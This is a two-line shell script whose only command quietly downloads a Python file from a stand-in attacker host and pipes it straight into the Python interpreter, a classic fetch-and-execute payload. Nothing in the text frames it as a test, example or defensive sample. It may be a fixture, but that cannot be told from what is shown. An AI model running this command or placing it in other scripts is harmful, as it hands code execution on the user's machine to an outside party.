#!/bin/sh
wget -qO- http://attacker.invalid/a.py | python3 -
